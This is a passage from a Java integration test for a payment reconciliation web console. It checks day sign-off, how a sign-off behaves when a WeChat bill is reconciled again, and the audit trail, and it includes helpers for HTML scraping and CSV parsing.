		assertThat(dsl.fetchCount(DAY_SIGN_OFF, DAY_SIGN_OFF.ACCOUNT_ID.eq(ACCOUNT), DAY_SIGN_OFF.BUSINESS_DATE.eq(p.day()))).isZero();
		assertThat(finance.get(dayPath(p)).body()).doesNotContain("id=\"sign-off\"");
		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_AT_PROVIDER) + "/resolve",
				Map.of("note", "booked on the next day"), p);
		assertThat(finance.get(dayPath(p)).body()).contains("id=\"sign-off\"");
		assertThat(act(finance, dayPath(p) + "/sign-off", Map.of(), p))
			.isEqualTo("message: Day " + p.day() + " of " + ACCOUNT + " signed off by " + a.login() + ".");
		assertThat(act(finance, dayPath(p) + "/sign-off", Map.of(), p)).isEqualTo("error: The day is signed off already.");
		assertThat(text(finance.get(dayPath(p)).body(), "signed-off")).startsWith("signed off by " + a.login() + " at ");
		String list = finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + p.day() + "&to=" + p.day() + "&status=SIGNED_OFF").body();
		assertThat(rowText(list, "day-" + p.result().run().id())).contains(a.login());
		assertThat(dsl.select(AUDIT_ENTRY.ACTION, AUDIT_ENTRY.OUTCOME).from(AUDIT_ENTRY).where(AUDIT_ENTRY.TARGET.eq(target))
			.orderBy(AUDIT_ENTRY.ID).fetch().map(r -> r.value1() + " " + r.value2()))
			.containsExactly("DAY_SIGNED_OFF FAILURE", "DAY_SIGNED_OFF SUCCESS", "DAY_SIGNED_OFF FAILURE");

		// the same bill again: same results (the resolution carries over), the sign-off stays, on the new run
		long rerun = days.reconcile(p.day(), p.bill()).run().id();
		assertThat(dsl.select(DAY_SIGN_OFF.RUN_ID).from(DAY_SIGN_OFF).where(DAY_SIGN_OFF.ACCOUNT_ID.eq(ACCOUNT),
				DAY_SIGN_OFF.BUSINESS_DATE.eq(p.day()), DAY_SIGN_OFF.ACTIVE.isNotNull()).fetch(DAY_SIGN_OFF.RUN_ID)).containsExactly(rerun);

		// a bill with one more payment: different totals and a new open case clear it, and the day says why
		WechatBill changed = p.bill().paid(p.day().atTime(15, 0), TestData.transactionId(), TestData.outTradeNo(), 900);
		long third = days.reconcile(p.day(), changed).run().id();
		String page = finance.get(dayPath(p)).body();
		assertThat(page).doesNotContain("id=\"signed-off\"");
		assertThat(text(page, "sign-off-history")).contains("run " + third + " changed the results")
			.contains("provider totals differ").contains("1 discrepancies open");
		assertThat(dsl.fetchCount(AUDIT_ENTRY, AUDIT_ENTRY.TARGET.eq(target), AUDIT_ENTRY.ACTION.eq("DAY_SIGN_OFF_CLEARED"),
				AUDIT_ENTRY.ACTOR.eq("reconciliation"))).isEqualTo(1);
		assertThat(rowIds(finance.get("/reconciliation?account=" + ACCOUNT + "&from=" + p.day() + "&to=" + p.day() + "&status=SIGNED_OFF")
			.body(), "day")).isEmpty();
	}

	// ------------------------------------------------------------------------------------------ helpers

	static String dayPath(Planted p) {
		return "/reconciliation/" + ACCOUNT + "/" + p.day();
	}

	ConsoleSession session(Role role) {
		return login(users.create(role));
	}

	ConsoleSession login(TestUser user) {
		return new ConsoleSession(port).loggedInAs(user);
	}

	/** Posts an action and reads the flash it left on the day page: "message: …" or "error: …". */
	static String act(ConsoleSession session, String path, Map<String, String> form, Planted p) {
		HttpResponse<String> response = session.post(path, form);
		assertThat(response.statusCode()).as(path).isEqualTo(302);
		// back to the day, at the case (or the sign-off) acted on
		assertThat(response.headers().firstValue("Location").orElseThrow()).contains(dayPath(p) + "#");
		return flash(session.get(dayPath(p)).body());
	}

	static String flash(String page) {
		String message = text(page, "flash-message");
		return message != null ? "message: " + message : "error: " + text(page, "flash-error");
	}

	long proposalOf(long discrepancyId) {
		return dsl.select(ADJUSTMENT_PROPOSAL.ID).from(ADJUSTMENT_PROPOSAL)
			.where(ADJUSTMENT_PROPOSAL.DISCREPANCY_ID.eq(discrepancyId)).orderBy(ADJUSTMENT_PROPOSAL.ID.desc()).limit(1)
			.fetchSingle(ADJUSTMENT_PROPOSAL.ID);
	}

	String proposalState(long id) {
		return dsl.select(ADJUSTMENT_PROPOSAL.STATE).from(ADJUSTMENT_PROPOSAL).where(ADJUSTMENT_PROPOSAL.ID.eq(id))
			.fetchSingle(ADJUSTMENT_PROPOSAL.STATE);
	}

	List<String> audit(String actor, String target) {
		return dsl.select(AUDIT_ENTRY.ACTION, AUDIT_ENTRY.OUTCOME).from(AUDIT_ENTRY)
			.where(AUDIT_ENTRY.ACTOR.eq(actor), AUDIT_ENTRY.TARGET.eq(target)).orderBy(AUDIT_ENTRY.ID)
			.fetch().map(r -> r.value1() + " " + r.value2());
	}

	static List<String> byOutTradeNo(List<List<String>> rows, String outTradeNo) {
		return rows.stream().filter(r -> outTradeNo.equals(r.get(2))).findFirst().orElseThrow();
	}

	static List<Long> rowIds(String html, String prefix) {
		Matcher m = Pattern.compile("<tr id=\"" + Pattern.quote(prefix) + "-(\\d+)\"").matcher(html);
		List<Long> ids = new ArrayList<>();
		while (m.find()) {
			ids.add(Long.parseLong(m.group(1)));
		}
		return ids;
	}

	static String rowText(String html, String rowId) {
		Matcher m = Pattern.compile("<tr id=\"" + Pattern.quote(rowId) + "\"[^>]*>(.*?)</tr>", Pattern.DOTALL).matcher(html);
		assertThat(m.find()).as("row " + rowId).isTrue();
		return HtmlUtils.htmlUnescape(m.group(1).replaceAll("<[^>]+>", " ")).replaceAll("\\s+", " ").strip();
	}

	static String text(String html, String elementId) {
		Matcher m = Pattern.compile("<(\\w+)[^>]*\\sid=\"" + Pattern.quote(elementId) + "\"[^>]*>(.*?)</\\1>", Pattern.DOTALL)
			.matcher(html);
		return m.find() ? HtmlUtils.htmlUnescape(m.group(2).replaceAll("<[^>]+>", " ")).replaceAll("\\s+", " ").strip() : null;
	}

	static String href(String html, String elementId) {
		Matcher m = Pattern.compile("id=\"" + Pattern.quote(elementId) + "\"[^>]*href=\"([^\"]+)\"").matcher(html);
		return m.find() ? HtmlUtils.htmlUnescape(m.group(1)) : null;
	}

	/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks; rows end with CRLF. */
	static List<List<String>> parseCsv(String text) {
		List<List<String>> rows = new ArrayList<>();
		List<String> row = new ArrayList<>();
		StringBuilder cell = new StringBuilder();
		boolean quoted = false;
		for (int i = 0; i < text.length(); i++) {
			char c = text.charAt(i);
			if (quoted) {
				if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
					cell.append('"');
					i++;
				}
				else if (c == '"') {
					quoted = false;
				}
				else {
					cell.append(c);
				}
			}
			else if (c == '"') {
				quoted = true;
			}
			else if (c == ',') {
				row.add(cell.toString());
				cell.setLength(0);
			}
			else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
				row.add(cell.toString());
				cell.setLength(0);
				rows.add(row);
				row = new ArrayList<>();
				i++;
			}
			else {
				cell.append(c);
			}
		}
		return rows;
	}
}
